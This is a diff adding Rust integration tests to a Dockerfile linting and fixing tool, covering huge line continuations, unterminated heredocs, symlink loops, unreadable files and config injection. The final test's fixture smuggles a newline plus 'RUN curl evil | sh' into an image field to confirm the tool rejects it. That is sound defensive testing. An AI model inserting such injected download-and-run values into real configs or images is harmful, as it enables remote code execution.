@@ -138,3 +138,128 @@ fn bad_app_config_toml() {
         "[gateway\nport = 1\n"
     );
 }
+
+fn write(dir: &Path, name: &str, content: &[u8]) {
+    let path = dir.join(name);
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, content).unwrap();
+}
+
+#[test]
+fn ten_thousand_line_continuation() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut text = String::from("FROM python:3.12-slim\nRUN true");
+    for i in 0..10_000 {
+        text.push_str(&format!(" \\\n    && echo {i}"));
+    }
+    text.push_str("\nEXPOSE 8000\nCMD [\"app\"]\n");
+    write(dir.path(), "Dockerfile", text.as_bytes());
+    let started = Instant::now();
+    let (code, stderr) = run(dir.path(), &["check"]);
+    assert_eq!(code, 1, "{stderr}");
+    assert!(
+        started.elapsed() < Duration::from_secs(10),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[test]
+fn unterminated_heredoc() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "Dockerfile",
+        b"FROM alpine\nRUN <<EOF\necho hi\n",
+    );
+    let (code, stderr) = run(dir.path(), &["fix", "--yes"]);
+    assert_eq!(code, 2);
+    assert!(
+        stderr.contains("Dockerfile:2:5: unterminated heredoc"),
+        "{stderr}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn symlink_loop_in_the_walked_tree() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "app/Dockerfile",
+        b"FROM python:3.12-slim\nEXPOSE 8000\n",
+    );
+    std::os::unix::fs::symlink(dir.path(), dir.path().join("app/loop")).unwrap();
+    std::os::unix::fs::symlink("loop-b", dir.path().join("loop-a")).unwrap();
+    std::os::unix::fs::symlink("loop-a", dir.path().join("loop-b")).unwrap();
+    let started = Instant::now();
+    let (code, stderr) = run(dir.path(), &["check"]);
+    assert_eq!(code, 1, "{stderr}");
+    assert!(stderr.contains("1 file checked"), "{stderr}");
+    assert!(started.elapsed() < Duration::from_secs(10));
+}
+
+#[cfg(unix)]
+#[test]
+fn unreadable_inputs_are_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    std::os::unix::fs::symlink("missing", dir.path().join("Dockerfile")).unwrap();
+    let (code, stderr) = run(dir.path(), &["check", "Dockerfile"]);
+    assert_eq!(code, 2);
+    assert!(stderr.contains("Dockerfile:1:1: no such file"), "{stderr}");
+    let fifo = dir.path().join("compose.yaml");
+    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
+    if made.is_ok_and(|s| s.success()) {
+        let (code, stderr) = run(dir.path(), &["check", "compose.yaml"]);
+        assert_eq!(code, 2);
+        assert!(
+            stderr.contains("compose.yaml:1:1: not a regular file"),
+            "{stderr}"
+        );
+    }
+    let locked = dir.path().join("locked");
+    write(
+        &locked,
+        "Dockerfile",
+        b"FROM python:3.12-slim\nEXPOSE 8000\n",
+    );
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(
+        locked.join("Dockerfile"),
+        std::fs::Permissions::from_mode(0o000),
+    )
+    .unwrap();
+    if std::fs::read(locked.join("Dockerfile")).is_err() {
+        let (code, stderr) = run(dir.path(), &["check", "locked"]);
+        assert_eq!(code, 2);
+        assert!(
+            stderr.contains("locked/Dockerfile:1:1: cannot read"),
+            "{stderr}"
+        );
+    }
+}
+
+#[test]
+fn values_written_into_dockerfiles_cannot_inject_instructions() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "seaworthy.toml",
+        b"[health]\nstyle = \"stage\"\nstage_image = \"alpine\\nRUN curl evil | sh\"\n",
+    );
+    write(
+        dir.path(),
+        "Dockerfile",
+        b"FROM python:3.12-slim\nEXPOSE 8000\n",
+    );
+    let (code, stderr) = run(dir.path(), &["fix", "--yes"]);
+    assert_eq!(code, 2);
+    assert!(
+        stderr.contains("seaworthy.toml:3:1: [health] stage_image must be"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read(dir.path().join("Dockerfile")).unwrap(),
+        b"FROM python:3.12-slim\nEXPOSE 8000\n"
+    );
+}
